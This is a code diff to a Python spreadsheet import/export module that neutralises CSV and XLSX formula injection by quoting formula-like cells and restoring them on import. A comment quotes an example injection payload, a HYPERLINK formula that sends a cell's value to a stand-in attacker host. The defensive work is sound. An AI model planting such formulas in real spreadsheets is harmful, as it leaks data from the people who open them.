@@ -121,6 +121,45 @@ def _clean_cell(value: Any) -> Any:
     return value
 
 
+# ------------------------------------------------------------------------- formulas
+#
+# A cell that begins with one of these is taken by Excel/LibreOffice as a formula (or a DDE
+# call), so a title such as =HYPERLINK("http://evil.example/?x="&A1) would run on opening
+# (OWASP "CSV injection"). tkksd never writes one: XLSX cells are typed as text with Excel's
+# quote prefix, CSV cells get the usual leading apostrophe, and import removes exactly that
+# apostrophe again, so the value round-trips unchanged.
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def _needs_quote(text: str) -> bool:
+    return text.startswith(FORMULA_STARTS) or (text.startswith("'") and text.lstrip("'").startswith(FORMULA_STARTS))
+
+
+def inert_csv(value: Any) -> Any:
+    """A CSV cell value that no spreadsheet evaluates (a leading apostrophe where needed)."""
+    if isinstance(value, str) and _needs_quote(value):
+        return "'" + value
+    return value
+
+
+def restore_csv(value: Any) -> Any:
+    """The value ``inert_csv`` protected, exactly as it was."""
+    if isinstance(value, str) and value.startswith("'") and _needs_quote(value[1:]):
+        return value[1:]
+    return value
+
+
+def mark_text_cells(ws, min_row: int = 1) -> None:
+    """Make every string cell of ``ws`` that looks like a formula a plain text cell (openpyxl
+    stores a string beginning with '=' as a formula otherwise)."""
+    for row in ws.iter_rows(min_row=min_row):
+        for cell in row:
+            value = cell.value
+            if isinstance(value, str) and value.startswith(FORMULA_STARTS):
+                cell.data_type = "s"
+                cell.quotePrefix = True
+
+
 def read(path: str | Path) -> Sheet:
     path = Path(path)
     if not path.exists():
@@ -153,7 +192,7 @@ def _read_csv(path: Path) -> Sheet:
         if header is None:
             header = [c.strip() for c in cells]
             continue
-        values = [_clean_cell(c) for c in cells]
+        values = [restore_csv(_clean_cell(c)) for c in cells]
         if any(v is not None for v in values):
             rows.append((number, values))
     if header is None:
@@ -210,7 +249,7 @@ def write_csv(path: str | Path, cols: Sequence[Column], rows: Sequence[dict[str,
         w = csv.writer(fh)
         w.writerow([c.key for c in cols])
         for r in rows:
-            w.writerow([_csv_value(r.get(c.key)) for c in cols])
+            w.writerow([inert_csv(_csv_value(r.get(c.key))) for c in cols])
 
 
 def _csv_value(value: Any) -> Any:
@@ -251,6 +290,7 @@ def write_xlsx(path: str | Path, cols: Sequence[Column], rows: Sequence[dict[str
     ws.freeze_panes = "B2"
     for r in rows:
         ws.append([cell_text(r.get(c.key)) for c in cols])
+    mark_text_cells(ws, min_row=2)
     date_cols = [i for i, c in enumerate(cols, start=1) if c.type == "date" or c.key == "state_since"]
     last = max(len(rows) + 1, 2)
     for i in date_cols:
